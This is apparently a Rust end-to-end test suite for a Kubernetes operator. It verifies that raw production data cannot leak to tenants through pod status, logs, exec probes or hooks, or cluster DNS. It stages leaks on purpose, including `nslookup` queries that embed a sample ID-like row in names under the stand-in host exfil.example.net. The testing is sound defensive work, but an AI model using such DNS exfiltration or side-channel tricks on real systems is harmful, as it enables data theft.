//! Raw data has no side door (R-1, R-12, R-17), tried as a tenant would on
//! the test bed's node: what a prod container writes where a person reads
//! status, and what a pod asks of the cluster's DNS. Each refusal has its
//! control: the same path, open to someone it is open to.

use std::time::Duration;

use anyhow::{Context, Result, ensure};
use e2e::pods::probe_pod;
use e2e::{TestBed, authorization, eventually, run, run_ok, unique};
use serde_json::{Value, json};

/// A raw row, as a prod job would hold one.
const ROW: &str = "11010519491231002X";

/// `kubectl --as USER ARGS`.
fn as_member(bed: &TestBed, user: &str, args: &[&str]) -> Result<std::process::Output> {
    run(bed.kubectl().args(["--as", user]).args(args))
}

fn refused(out: &std::process::Output) -> bool {
    !out.status.success() && String::from_utf8_lossy(&out.stderr).contains("forbidden")
}

/// A pod whose container writes a row to its termination message and exits.
fn leaking_pod(bed: &TestBed, ns: &str, name: &str, extra: Value) -> Result<Value> {
    let mut pod = probe_pod(
        bed,
        ns,
        name,
        json!({
            "restartPolicy": "Never",
            "containers": [{"command": ["sh", "-c", format!("echo {ROW} > /dev/termination-log; echo {ROW}; exit 3")]}]
        }),
    )?;
    if let (Some(base), Some(extra)) = (
        pod["spec"]["containers"][0].as_object_mut(),
        extra.as_object(),
    ) {
        for (k, v) in extra {
            base.insert(k.clone(), v.clone());
        }
    }
    Ok(pod)
}

#[tokio::test]
async fn members_see_prod_only_through_the_operators_summary() -> Result<()> {
    let bed = TestBed::from_env()?;
    bed.require_operator()?;
    let t = unique("sight");
    let alice = unique("alice");
    bed.apply(&authorization(&t, &[(&alice, true)])?)?;
    bed.wait_ready(&t).await?;
    let (dev, prod) = (format!("{t}-dev"), format!("{t}-prod"));

    bed.apply(&leaking_pod(&bed, &prod, "leak", json!({}))?)?;
    // The channel exists: the bureau's auditors read the row in the pod's
    // status once the container ends.
    let bureau = ["--as", "bureau-officer", "--as-group", "publicdata:bureau"];
    let message = eventually(
        "the termination message",
        Duration::from_secs(120),
        || async {
            let out = run_ok(bed.kubectl().args(bureau).args([
                "-n",
                &prod,
                "get",
                "pod",
                "leak",
                "-o",
                "jsonpath={.status.containerStatuses[0].state.terminated.message}",
            ]))?;
            Ok((!out.trim().is_empty()).then_some(out))
        },
    )
    .await?;
    ensure!(message.contains(ROW), "the control: {message}");

    // A member reads no pod, no status, no event and no log in prod.
    for args in [
        vec!["-n", &prod, "get", "pods"],
        vec!["-n", &prod, "get", "pod", "leak", "-o", "json"],
        vec!["-n", &prod, "get", "events"],
        vec!["-n", &prod, "get", "events.events.k8s.io"],
        vec!["-n", &prod, "logs", "leak"],
        vec!["-n", &prod, "get", "configmaps"],
    ] {
        let out = as_member(&bed, &alice, &args)?;
        ensure!(
            refused(&out),
            "a member must not run kubectl {args:?}: {out:?}"
        );
    }
    // The same member reads pods and events in dev (masked data): the
    // refusal is prod's, not a member without rights.
    ensure!(
        as_member(&bed, &alice, &["-n", &dev, "get", "pods"])?
            .status
            .success(),
        "the control: a member lists dev's pods"
    );

    // What a member sees instead: the summary, with the reason code and
    // none of what the container wrote.
    let shown = eventually("the workload summary", Duration::from_secs(60), || async {
        let out = bed.plugin(&["--as", &alice, "workloads", &t, "-o", "json"])?;
        let text = String::from_utf8_lossy(&out.stdout).into_owned();
        Ok((out.status.success() && text.contains("\"Failed\"")).then_some(text))
    })
    .await?;
    let workloads: Value = serde_json::from_str(&shown)?;
    let leak = workloads
        .as_array()
        .and_then(|w| w.iter().find(|w| w["name"] == "leak"))
        .context("the summary names the pod")?;
    ensure!(
        leak["kind"] == "Pod" && leak["phase"] == "Failed" && leak["reasons"] == json!(["Error"]),
        "{leak}"
    );
    ensure!(!shown.contains(ROW), "the summary holds the row: {shown}");
    // Nobody but the operator writes it, not even a cluster admin (the
    // control: the operator wrote what was read above).
    let out = run(bed.kubectl().args([
        "-n",
        &prod,
        "patch",
        "configmap",
        "publicdata-workloads",
        "--type",
        "merge",
        "-p",
        &format!(r#"{{"data":{{"extra":"{ROW}"}}}}"#),
    ]))?;
    ensure!(
        !out.status.success()
            && String::from_utf8_lossy(&out.stderr).contains("operator's summary"),
        "someone other than the operator wrote the summary: {out:?}"
    );
    let table = bed.plugin(&["--as", &alice, "workloads", &t])?;
    let table = String::from_utf8_lossy(&table.stdout);
    ensure!(
        table.contains("leak") && table.contains("Failed"),
        "{table}"
    );
    Ok(())
}

#[tokio::test]
async fn prod_refuses_log_fallback_exec_probes_and_exec_hooks() -> Result<()> {
    let bed = TestBed::from_env()?;
    bed.require_operator()?;
    let t = unique("quiet");
    bed.apply(&authorization(&t, &[])?)?;
    bed.wait_ready(&t).await?;
    let (dev, prod) = (format!("{t}-dev"), format!("{t}-prod"));
    let exec = json!({"exec": {"command": ["cat", "/etc/hostname"]}});
    let cases = [
        (
            "fallback",
            json!({"terminationMessagePolicy": "FallbackToLogsOnError"}),
            "FallbackToLogsOnError",
        ),
        ("probe", json!({"readinessProbe": exec}), "exec probe"),
        (
            "hook",
            json!({"lifecycle": {"postStart": exec}}),
            "exec lifecycle hook",
        ),
    ];
    for (name, extra, said) in cases {
        let pod = leaking_pod(&bed, &prod, name, extra.clone())?;
        let file = bed.dir.join(format!("{}.json", unique("pod")));
        std::fs::write(&file, serde_json::to_vec(&pod)?)?;
        let out = run(bed.kubectl().args(["apply", "-f"]).arg(&file))?;
        let stderr = String::from_utf8_lossy(&out.stderr);
        ensure!(
            !out.status.success() && stderr.contains(said),
            "a prod pod with {name} must be refused, cluster admin or not: {stderr}"
        );
        // A Deployment's template is refused too, at apply.
        let mut template = pod["spec"].clone();
        if let Some(spec) = template.as_object_mut() {
            spec.remove("restartPolicy");
        }
        let deployment = json!({
            "apiVersion": "apps/v1", "kind": "Deployment",
            "metadata": {"name": name, "namespace": prod},
            "spec": {"replicas": 1, "selector": {"matchLabels": {"app": name}},
                     "template": {"metadata": {"labels": {"app": name}}, "spec": template}}
        });
        std::fs::write(&file, serde_json::to_vec(&deployment)?)?;
        let out = run(bed.kubectl().args(["apply", "-f"]).arg(&file))?;
        ensure!(
            !out.status.success() && String::from_utf8_lossy(&out.stderr).contains(said),
            "a prod Deployment with {name} must be refused: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        // The control: dev admits the same pod.
        let mut pod = pod;
        pod["metadata"]["namespace"] = json!(dev);
        std::fs::write(&file, serde_json::to_vec(&pod)?)?;
        let out = run(bed
            .kubectl()
            .args(["apply", "--dry-run=server", "-f"])
            .arg(&file))?;
        std::fs::remove_file(&file)?;
        ensure!(
            out.status.success(),
            "the control: dev admits the pod with {name}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    Ok(())
}

/// What the outside world's resolver has been asked so far.
fn asked_outside(bed: &TestBed) -> Result<String> {
    let log = bed
        .var("TESTBED_OUTSIDE_DNS_LOG")
        .context("the env file has no TESTBED_OUTSIDE_DNS_LOG")?;
    Ok(std::fs::read_to_string(log)?)
}

/// A name that carries a row, as a prod job would send one: the row in a
/// label, a tag that finds it in the logs, absolute (no search domains).
fn exfil_name(tag: &str) -> String {
    format!("{tag}.{}.exfil.example.net.", ROW.to_lowercase())
}

#[tokio::test]
async fn dns_carries_no_name_out_of_a_tenant_and_logs_every_one() -> Result<()> {
    let bed = TestBed::from_env()?;
    bed.require_operator()?;
    let t = unique("dns");
    bed.apply(&authorization(&t, &[])?)?;
    bed.wait_ready(&t).await?;
    let (dev, prod) = (format!("{t}-dev"), format!("{t}-prod"));
    let open = unique("open");
    bed.open_namespace(&open)?;
    let [control, dev_pod, prod_pod] = <[_; 3]>::try_from(
        bed.probes(&[(&open, "client"), (&dev, "client"), (&prod, "client")])
            .await?,
    )
    .map_err(|_| anyhow::anyhow!("three probes"))?;
    let tag = unique("tag");

    // Tenant pods ask for outside names: no answer.
    for (pod, env) in [(&dev_pod, "dev"), (&prod_pod, "prod")] {
        let name = exfil_name(&format!("{tag}-{env}"));
        let out = bed.exec(pod, &format!("nslookup {name}"))?;
        ensure!(
            !out.status.success(),
            "a {env} pod got an answer for an outside name: {}",
            String::from_utf8_lossy(&out.stdout)
        );
        // Cluster names still resolve: DNS itself works for the tenant.
        let out = bed.exec(pod, "nslookup kubernetes.default.svc.cluster.local")?;
        ensure!(
            out.status.success(),
            "a {env} pod cannot resolve cluster names: {}",
            String::from_utf8_lossy(&out.stdout)
        );
    }
    // The control, asked after them: a pod outside the tenants gets its
    // outside name answered, so the forward works and the upstream logs.
    // Once its name has arrived, the tenants' (asked before it) would have.
    let control_name = exfil_name(&format!("{tag}-control"));
    eventually(
        "the control's name upstream",
        Duration::from_secs(60),
        || async {
            let out = bed.exec(&control, &format!("nslookup {control_name}"))?;
            Ok(
                (out.status.success() && asked_outside(&bed)?.contains(&format!("{tag}-control")))
                    .then_some(()),
            )
        },
    )
    .await?;
    let upstream = asked_outside(&bed)?;
    for env in ["dev", "prod"] {
        ensure!(
            !upstream.contains(&format!("{tag}-{env}")),
            "a name asked from {env} left the cluster: {}",
            upstream
                .lines()
                .filter(|l| l.contains(&tag))
                .collect::<Vec<_>>()
                .join("\n")
        );
    }

    // Every name a tenant pod asked is logged, with its namespace and pod.
    let logs = run_ok(bed.kubectl().args([
        "-n",
        "kube-system",
        "logs",
        "-l",
        "k8s-app=kube-dns",
        "--tail",
        "-1",
    ]))?;
    for (ns, env) in [(&dev, "dev"), (&prod, "prod")] {
        ensure!(
            logs.lines()
                .any(|l| l.contains(&format!("tenant-dns {ns} client "))
                    && l.contains(&format!("{tag}-{env}"))),
            "the cluster DNS did not log {env}'s query"
        );
    }
    run_ok(
        bed.kubectl()
            .args(["delete", "namespace", &open, "--wait=false"]),
    )?;

    // A cluster admin who is not the bureau adds a stub domain forwarded
    // for every client (names under it would leave from tenant pods too):
    // the operator says so on the authorization, and says it is contained
    // again once the Corefile is put back. The control: contained before.
    let dns_condition = |bed: &TestBed| -> Result<(String, String)> {
        let out = run_ok(bed.kubectl().args([
            "get",
            "operatorauthorization",
            &t,
            "-o",
            r#"jsonpath={.status.conditions[?(@.type=="DnsContained")].status} {.status.conditions[?(@.type=="DnsContained")].message}"#,
        ]))?;
        let (status, message) = out.split_once(' ').unwrap_or((out.as_str(), ""));
        Ok((status.to_string(), message.to_string()))
    };
    ensure!(
        dns_condition(&bed)?.0 == "True",
        "the control: {:?}",
        dns_condition(&bed)?
    );
    let corefile = run_ok(bed.kubectl().args([
        "-n",
        "kube-system",
        "get",
        "configmap",
        "coredns",
        "-o",
        "jsonpath={.data.Corefile}",
    ]))?;
    let set_corefile = |text: &str| {
        run_ok(bed.kubectl().args([
            "-n",
            "kube-system",
            "patch",
            "configmap",
            "coredns",
            "--type",
            "merge",
            "-p",
            &json!({"data": {"Corefile": text}}).to_string(),
        ]))
    };
    set_corefile(&format!(
        "{corefile}\ncorp.example:53 {{\n    forward . 127.0.0.1\n}}\n"
    ))?;
    let said = eventually("DnsContained False", Duration::from_secs(120), || async {
        let (status, message) = dns_condition(&bed)?;
        Ok((status == "False").then_some(message))
    })
    .await;
    set_corefile(&corefile)?;
    let said = said?;
    ensure!(said.contains("corp.example"), "{said}");
    eventually(
        "DnsContained True again",
        Duration::from_secs(120),
        || async { Ok((dns_condition(&bed)?.0 == "True").then_some(())) },
    )
    .await?;
    Ok(())
}
